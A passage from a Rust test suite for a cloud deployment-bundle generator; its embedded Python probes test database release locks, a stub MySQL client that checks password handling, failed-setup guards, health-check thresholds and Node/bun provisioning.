assert lock["engine"] == "postgresql", lock
assert lock["password"] == {"from": "database", "value": "password"}, lock
u = urllib.parse.urlparse(sys.argv[3])
parts = {"host": u.hostname, "port": str(u.port or 5432), "username": u.username,
          "password": u.password, "name": u.path.lstrip("/") or "postgres"}
m.resolve = lambda cfg, e: parts[e["value"]]
env = dict(os.environ, PGPASSWORD=u.password)
login = ["psql", "-X", "-q", "-A", "-t", "-h", u.hostname, "-p", parts["port"], "-U", u.username, "-d", parts["name"]]
holder = subprocess.Popen(login, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env, text=True)
holder.stdin.write("SELECT pg_advisory_lock(hashtext('autodeploy-release'));\nSELECT 'held';\n")
holder.stdin.flush()
while holder.stdout.readline().strip() != "held":
    pass
events = []
def release():
    with m.ReleaseLock(cfg):
        events.append("ran")
t = threading.Thread(target=release)
t.start()
waiting = "SELECT count(*) FROM pg_stat_activity WHERE wait_event = 'advisory' AND application_name = 'psql'"
deadline = time.time() + 60
while subprocess.run(login + ["-c", waiting], env=env, capture_output=True, text=True).stdout.strip() != "1":
    assert time.time() < deadline, "the launcher never waited on the lock"
    time.sleep(0.05)
before = list(events)
holder.stdin.close()
holder.wait()
t.join(60)
# A login that fails stops the setup with what to do.
m.ReleaseLock.ATTEMPTS = 1
parts["password"] = "wrong"
try:
    with m.ReleaseLock(cfg):
        events.append("ran with a wrong password")
    failed = None
except SystemExit as err:
    failed = str(err)
# MySQL's client: the password in its environment, the lock's answer read.
fake = os.path.join(os.path.dirname(sys.argv[2]), "mysql")
open(fake, "w").write('#!/bin/sh\necho "$@" > "$0.args"; echo "$MYSQL_PWD" > "$0.pwd"\nread a; echo 1; read b; echo autodeploy-locked; cat > "$0.rest"\n')
os.chmod(fake, 0o755)
os.environ["PATH"] = os.path.dirname(fake) + ":" + os.environ["PATH"]
cfg["release_lock"]["engine"] = "mysql"
parts["password"] = "s3cret pass"
with m.ReleaseLock(cfg):
    events.append("ran on mysql")
print(json.dumps({"before": before, "events": events, "failed": failed,
                  "args": open(fake + ".args").read(), "pwd": open(fake + ".pwd").read()}))
"#;
    let got = support::probe_launcher(ci, probe, &[&url]);
    assert_eq!(got["before"], json!([]), "ran while another held the lock");
    assert_eq!(got["events"], json!(["ran", "ran on mysql"]), "{got:#}");
    let failed = got["failed"].as_str().unwrap_or_default();
    assert!(
        failed.contains("could not take the release lock") && failed.contains("launch.py setup"),
        "{got:#}"
    );
    let args = got["args"].as_str().unwrap();
    assert!(args.contains("--ssl-mode=REQUIRED"), "{args}");
    assert!(!args.contains("s3cret"), "{args}");
    assert_eq!(got["pwd"], "s3cret pass\n");
}

/// A machine whose install, build or release failed starts no process:
/// the units wait for setup's mark, and the boot's wait stops at once
/// saying so instead of waiting out its timeout or calling an app without
/// its tables healthy.
#[test]
fn a_failed_release_starts_nothing_on_the_machine() {
    let b = bundle("python_django_postgres", "deploy on AWS EC2 with postgres");
    let ci = contents(&b, "cloud-init.yaml");
    assert!(
        ci.contains("ConditionPathExists=/opt/app/.autodeploy-setup-ok"),
        "{ci}"
    );
    let probe = format!(
        r#"
import os, subprocess
cfg = json.loads(files["/etc/autodeploy/app.json"])
{AWS_STUBS}
m.SETUP_OK = os.path.join(os.path.dirname(sys.argv[2]), "setup-ok")
cfg["workdir"] = os.path.dirname(sys.argv[2])
cfg["install"], cfg["build"], cfg["release"] = "true", None, "exit 3"
out = {{}}
try:
    m.setup(cfg)
except subprocess.CalledProcessError as err:
    out["setup"] = err.returncode
out["marked"] = os.path.exists(m.SETUP_OK)
try:
    m.wait(cfg)
except SystemExit as err:
    out["wait"] = str(err)
cfg["release"] = "true"
m.setup(cfg)
out["marked_after_success"] = os.path.exists(m.SETUP_OK)
print(json.dumps(out))
"#
    );
    let got = support::probe_launcher(ci, &probe, &[]);
    assert_eq!(got["setup"], 3, "{got:#}");
    assert_eq!(got["marked"], false, "{got:#}");
    assert!(
        got["wait"]
            .as_str()
            .is_some_and(|w| w.contains("no process was started")),
        "{got:#}"
    );
    assert_eq!(got["marked_after_success"], true, "{got:#}");
}

/// The boot's wait holds the app to the plan's health check: on a route the
/// app serves (200-399), a 400 or a redirect to a page that fails is not
/// healthy; where no route is known, any answer below 500 is.
#[test]
fn the_boot_s_wait_keeps_to_the_plan_s_health_check() {
    let b = bundle("python_django_postgres", "deploy on AWS EC2 with postgres");
    let probe = r#"
import http.server, os, threading
cfg = json.loads(files["/etc/autodeploy/app.json"])
m.SETUP_OK = sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/moved":
            self.send_response(302); self.send_header("Location", "/broken"); self.end_headers()
            return
        code = {"/ok": 200, "/bad": 400, "/broken": 500}[self.path]
        self.send_response(code); self.end_headers()
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
m.WAIT_EVERY = 0.01
out = {}
for below in (400, 500):
    for path in ("/ok", "/bad", "/moved"):
        c = dict(cfg, port=srv.server_port, health_path=path, health_below=below, health_timeout=0.2)
        try:
            m.wait(c)
            out["%d %s" % (below, path)] = "healthy"
        except SystemExit as err:
            out["%d %s" % (below, path)] = str(err)
print(json.dumps({"default": cfg["health_below"], "out": out}))
"#;
    let got = support::probe_launcher(contents(&b, "cloud-init.yaml"), probe, &[]);
    let out = &got["out"];
    assert_eq!(out["400 /ok"], "healthy", "{got:#}");
    assert_eq!(out["500 /ok"], "healthy", "{got:#}");
    assert_eq!(out["500 /bad"], "healthy", "{got:#}");
    for failing in ["400 /bad", "400 /moved", "500 /moved"] {
        let msg = out[failing].as_str().unwrap_or_default();
        assert!(msg.contains("did not answer below"), "{failing}: {got:#}");
    }
    assert!(out["400 /bad"].as_str().unwrap().contains("last: HTTP 400"));
    assert!(got["default"].is_u64(), "{got:#}");
}

/// nestjs-prisma-starter pins Node 18.16.1 in `.node-version`: the machine
/// installs the latest release of that line (`latest-v18.x`), where the
/// renderer used to refuse any version but a bare major.
#[test]
fn a_full_node_release_runs_on_its_major_line() {
    let (analysis, mut d) = scenario("node_express_basic", "deploy on AWS EC2");
    d.services[0].runtime.version = "18.16.1".into();
    let b = render(&d, &analysis, &RenderOptions::default()).expect("renders");
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.contains("major='18'"), "{ci}");
    assert!(ci.contains("Node.js 18.x"), "{ci}");
}

/// next-self-host runs `bun install` / `bun run start`: the machine gets
/// bun from npm after Node; an npm project does not.
#[test]
fn a_bun_project_gets_bun_on_its_machine() {
    let (analysis, mut d) = scenario("node_express_basic", "deploy on AWS EC2");
    let npm = render(&d, &analysis, &RenderOptions::default()).expect("renders");
    assert!(!contents(&npm, "cloud-init.yaml").contains("bun@1"));
    d.services[0].install = Some("bun install --frozen-lockfile".into());
    d.services[0].start = Some("bun run start".into());
    let b = render(&d, &analysis, &RenderOptions::default()).expect("renders");
    let ci = contents(&b, "cloud-init.yaml");
    assert!(
        ci.contains("command -v bun >/dev/null || npm install -g bun@1"),
        "{ci}"
    );
}

/// miniflux's shape on an autoscaling group: the binary's `-migrate` flag
/// is the release, run at each new instance's boot under the database's
/// lock (never the migrate-at-start switch), and the first administrator's
/// generated password is named in PLAN.md with the command that reads it
/// through the `secrets_to_read` output.
#[test]
fn a_migrate_flag_releases_under_the_lock_and_the_admin_password_is_named() {
    let b = bundle(
        "go_migrate_flag_admin",
        "deploy on AWS EC2 autoscaling group, 2 to 4 instances, with postgres",
    );
    let ci = contents(&b, "cloud-init.yaml");
    assert!(
        ci.contains(r#"\"release\": \"./bin/feeds -migrate\""#),
        "{ci}"
    );
    assert!(ci.contains(r#"\"release_lock\": {"#), "{ci}");
    assert!(!ci.contains("RUN_MIGRATIONS"), "{ci}");
    let plan = contents(&b, "PLAN.md");
    assert!(
        plan.contains("| feeds | ` ./bin/feeds -migrate ` | at each new instance's boot"),
        "{plan}"
    );
    assert!(
        plan.contains("### Generated values you will need"),
        "{plan}"
    );
    assert!(
        plan.contains("aws secretsmanager get-secret-value --secret-id \"$(terraform -chdir=terraform output -json secrets_to_read | jq -r '.[\"admin-password\"]')\" --query SecretString --output text"),
        "{plan}"
    );
    let secrets = contents(&b, "terraform/secrets.tf");
    assert!(
        secrets.contains("\"admin-password\" = aws_secretsmanager_secret.admin_password.arn"),
        "{secrets}"
    );
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}
